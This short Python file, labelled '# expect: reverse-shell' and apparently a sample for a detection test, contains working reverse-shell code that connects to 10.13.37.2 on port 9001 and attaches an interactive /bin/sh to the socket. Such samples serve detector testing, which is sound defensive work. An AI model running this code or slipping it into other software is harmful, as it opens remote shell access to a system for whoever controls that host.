# expect: reverse-shell
import socket
import subprocess


def connect_back(host: str, port: int) -> None:
    s = socket.create_connection((host, port))
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


if __name__ == "__main__":
    connect_back("10.13.37.2", 9001)
